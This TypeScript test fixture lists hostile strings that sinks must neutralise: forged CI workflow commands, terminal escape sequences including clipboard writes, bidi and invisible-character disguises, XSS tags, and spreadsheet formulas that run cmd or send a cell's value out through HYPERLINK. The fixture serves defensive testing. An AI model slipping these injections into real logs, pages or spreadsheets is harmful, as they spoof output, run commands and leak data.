/**
 * Texts that try to act instead of being read, by what they try. Every sink's test runs through all of them. All but
 * those of `ordinary` and `lines` are in one line.
 */

/** Each forges a line, of a report or for a CI runner. */
const lines = {
  'a workflow command after a line feed': 'x\n::error::fake',
  'a workflow command after a carriage return': 'x\r::error::fake',
  'a workflow command after CR LF': 'x\r\n::error file=a.ts,line=1::fake',
  'a workflow command after NEL': 'x\u0085::error::fake',
  'a workflow command after a line separator': 'x\u2028::error::fake',
  'a workflow command after a paragraph separator': 'x\u2029::warning::fake',
  'a command after a vertical tab': 'x\v::error::fake',
  'a command after a form feed': 'x\f::error::fake',
  'a forged refusal': 'x\nscenario.yaml:1:1: all is well\n0 problems',
  'carriage returns that overwrite the line': 'shown\rhidden',
  'only carriage returns': '\r\r\r',
  'line feeds at the end': 'title\n\n\n',
  'a heading after a line feed': 'x\n# Fake heading',
  'a CSV row after CR LF': 'x\r\nnorth,1,2,3',
} as const;

/** Each is a command to a CI runner where it begins a line, or anywhere. */
const commands = {
  'a workflow command': '::error::fake',
  'a workflow command behind blanks': '   \u00a0\u3000::error::fake',
  'set-output': '::set-output name=token::x',
  'add-mask': '::add-mask::the',
  'stop-commands': '::stop-commands::token',
  'an older workflow command': '##[error]fake',
  'an older workflow command in the middle': 'text ##[error]fake',
  'a group of an older kind': '##[group]x',
  'a command of Azure Pipelines': '##vso[task.setvariable variable=x]y',
  'a service message of TeamCity': "##teamcity[buildProblem description='x']",
  'encoded line breaks': '100%25 %0A::error::fake %0D',
  'file and line of an annotation': 'a.ts,line=3,title=x::y',
} as const;

/** Each is a command to a terminal, or ends a text too early. */
const controls = {
  'a NUL': 'a\0b',
  'a bell and a backspace': 'a\u0007\bb',
  'a tab': 'a\tb',
  DEL: 'a\u007fb',
  'a colour': '\u001b[31mred\u001b[0m',
  'a cleared screen': '\u001b[2J\u001b[H',
  'a cursor that moves up': '\u001b[1A\u001b[2Kforged',
  'a title for the window': '\u001b]0;title\u0007',
  'a hyperlink (OSC 8)': '\u001b]8;;https://example.org\u001b\\link\u001b]8;;\u001b\\',
  'a clipboard (OSC 52)': '\u001b]52;c;eA==\u0007',
  'a sequence with a C1 introducer': '\u009b31mred',
  'a C1 command string': '\u009d0;title\u009c',
} as const;

/** Each looks different from what it is. */
const disguises = {
  'a bidi override': 'abc\u202edef\u202c',
  'a bidi embedding': '\u202aabc\u202b\u202c',
  'bidi isolates': '\u2066abc\u2067def\u2068\u2069',
  'an isolate that is not closed': '\u2067abc',
  'direction marks': 'a\u200eb\u200fc\u061cd',
  'zero-width spaces and joiners': 'No\u200bA\u200c\u200d\u2060\ufeffma',
  'a soft hyphen': 'ac\u00adcount',
  'Hangul fillers': 'a\u3164\u115f\u1160\uffa0b',
  'Khmer vowels that are not seen': 'a\u17b4\u17b5b',
  'a grapheme joiner': 'a\u034fb',
  'variation selectors without a picture': 'a\ufe0fb\ufe01\u{e0101}',
  'a message in tags': `a${[...'secret'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')}b`,
  'invisible operators': 'a\u2061\u2062\u2063\u2064b',
  'annotation characters': 'a\ufff9b\ufffac\ufffb',
  'a lone high surrogate': 'a\ud83d',
  'a lone low surrogate': '\ude00b',
  noncharacters: 'a\ufffe\uffff\ufdd0\u{1ffff}b',
  'a flood of marks': `Z${'\u0300\u0316\u0489'.repeat(40)}algo`,
  'marks with nothing to stand on': '\u0301\u0301text',
} as const;

/** Each is markup or a formula somewhere. */
const markup = {
  'an end of a script': '</script><script>alert(1)</script>',
  'an end in another case': '</ScRiPt >',
  'a comment and its end': '<!-- x --> y --!>',
  'an end of CDATA': 'a]]>b',
  'a tag with a handler': '<img src=x onerror=alert(1)>',
  'quotes that end an attribute': `" onmouseover="x" ' onfocus='y`,
  'references to characters': '&#x202e; &lt;b&gt; &amp; &#10;',
  'an entity of its own': '<!DOCTYPE x [<!ENTITY e "x">]>&e;',
  'a formula': '=cmd|" /C calc"!A0',
  'a formula with plus': '+1+cmd|" /C calc"!A0',
  'a formula with minus': '-2+3+cmd|" /C calc"!A0',
  'a formula with at': '@SUM(1+1)*cmd|" /C calc"!A0',
  'a formula behind a blank': ' =1+1',
  'a formula behind a tab': '\t=1+1',
  'a formula in full width': '\uff1d1+1',
  'a formula behind a semicolon': 'x;=1+1',
  'a formula that sends what is beside it': '=HYPERLINK("https://example.org?x="&A1,"x")',
  'quotes and commas': 'He said "a, b", twice',
  'code and a table in Markdown': '`code` | cell | ```',
  'an image and a link in Markdown': '![x](https://example.org/x.png) [y](javascript:alert(1))',
  'HTML and emphasis in Markdown': '<b>x</b> **y** _z_ ~~w~~ \\*',
  'a mention and a reference': '@everyone #1 GH-1',
  'an escape that Excel decodes': '_x000D_ _x0041_',
  'an escape that is written out': '\\u202e \\n \\x1b',
} as const;

const LONG = 10_000;

/** Each is long. */
const floods = {
  'a very long word': 'a'.repeat(LONG),
  'a very long line of blanks': `a${' '.repeat(LONG)}b`,
  'very many overrides': '\u202e'.repeat(LONG),
  'very many marks': `a${'\u0301'.repeat(LONG)}`,
  'very many line feeds': `a${'\n'.repeat(LONG)}b`,
  'very many joiners': '\u200d'.repeat(LONG),
} as const;

/** Each is what people write, and every sink keeps it readable. */
export const ORDINARY = {
  German: 'Entlassung um 8 Uhr früh, «sofort»',
  'Vietnamese with its marks apart': 'Thông báo'.normalize('NFD'),
  Arabic: 'إشعار الإفراج قبل 24 ساعة',
  Hebrew: 'הודעה על שחרור',
  'Hebrew with vowels': 'בְּרֵאשִׁית',
  'Persian with a joiner that separates': 'می\u200cخواهم',
  'Hindi with a joiner': 'क्\u200dष',
  Thai: 'การแจ้งเตือน',
  'Khmer with a place to break': 'ជំរាប\u200bសួរ',
  Tibetan: 'ཨོཾ་མ་ཎི་པདྨེ་ཧཱུྃ',
  Chinese: '释放通知：二十四小时',
  'Japanese with a variant of a character': '葛\u{e0100}飾区',
  Korean: '석방 통지',
  'a family': '👨\u200d👩\u200d👧',
  'a skin tone': '👩🏽\u200d⚖️',
  'a heart': '❤\ufe0f',
  'a keycap': '1\ufe0f\u20e3',
  'flags of a country and of a part of one': '🇺🇸 🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}',
  'signs of reports': '± 0.4 – 1,234 − 5 “x” ’ … × ÷ ◂ →',
} as const;

/** All that are hostile, name -> text. */
export const NASTY: Readonly<Record<string, string>> = {
  ...lines,
  ...commands,
  ...controls,
  ...disguises,
  ...markup,
  ...floods,
};

/** For `test.each`: both lists, with what each text is. */
export const ALL_TEXTS: readonly (readonly [what: string, text: string])[] = [
  ...Object.entries(NASTY),
  ...Object.entries(ORDINARY),
];
